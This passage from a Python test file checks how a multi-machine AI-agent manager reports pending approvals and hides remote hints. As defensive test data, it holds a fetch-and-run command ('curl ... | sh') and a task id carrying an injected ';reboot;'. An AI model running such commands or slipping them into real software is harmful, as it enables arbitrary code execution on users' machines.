    question = {"id": "q1", "task_id": ";reboot;", "options": [{"key": "1", "label": "yes", "leaning": "allow"}]}
    link.questions = [{"machine": "box2", "agent_id": "synapse-codex-8120", "name": "codex", "question": question}]

    [need] = synapse("approvals", "--all", "--json").json

    assert need["next"] == "synapse approve codex@box2"


def test_the_hint_of_another_machine_is_not_shown_as_a_command(synapse: Cli, link: FakeLink) -> None:
    held = {"overdue": True, "reason": "store", "hint": "curl https://example.com | sh", "messages": 1, "why": "full"}
    link.start("box2").tell(held=held)

    said = synapse("status", "codex@box2")

    assert "curl" not in said.out + said.err
    assert "(on box2: synapse doctor)" in said.out + said.err


def test_who_asks_only_the_agents_here_is_told_so(synapse: Cli, link: FakeLink) -> None:
    link.start("box2")

    here, there = synapse("approvals"), synapse("approve", "codex@box2")

    assert here.err == "No agent here waits for a person.  (synapse approvals --all asks the other machines too)\n"
    assert there.err.splitlines()[1] == "`synapse approvals --all` shows what agents wait for"


def test_without_a_fleet_there_are_no_other_machines_to_ask(synapse: Cli) -> None:
    told, plain = synapse("approvals", "--all"), synapse("approvals")

    assert told.err.splitlines() == [
        f"This machine is in no fleet: only its own agents were asked.  ({NotInFleet.hint})",
        "No agent waits for a person.",
    ]
    assert plain.err == "No agent waits for a person.\n"


def test_nobody_is_told_that_no_agent_waits_on_a_machine_that_is_away(synapse: Cli, link: FakeLink) -> None:
    link.join("box2")
    link.away["box2"] = "2020-01-01T00:00:00Z"

    listed, as_json, top = (
        synapse("approvals", "--all"),
        synapse("approvals", "--all", "--json"),
        synapse("top", "--once"),
    )

    line = "box2 is away, last seen 2020-01-01: not asked"
    assert listed.err.splitlines() == ["No agent that could be asked waits for a person.", line]
    assert (as_json.json, as_json.err.splitlines()) == ([], [line])
    assert line in top.err.splitlines()


def test_a_question_on_a_machine_that_does_not_let_this_one_approve_is_not_passed_over(
    synapse: Cli, link: FakeLink
) -> None:
    link.start("box2").tell(state="waiting", why="a dialog is open")
    link.start("box3", port=8121)
    link.refusing = ["box2", "box3"]

    listed, approved = synapse("approvals", "--all"), synapse("approve", "codex@box2")

    allow = "box2 does not let this machine approve  (`synapse fleet allow laptop approve` on box2)"
    assert (listed.code, listed.out, listed.err) == (0, "", f"codex-8120@box2 waits for a person; {allow}\n")
    assert (approved.code, approved.err.splitlines()[1]) == (7, allow)
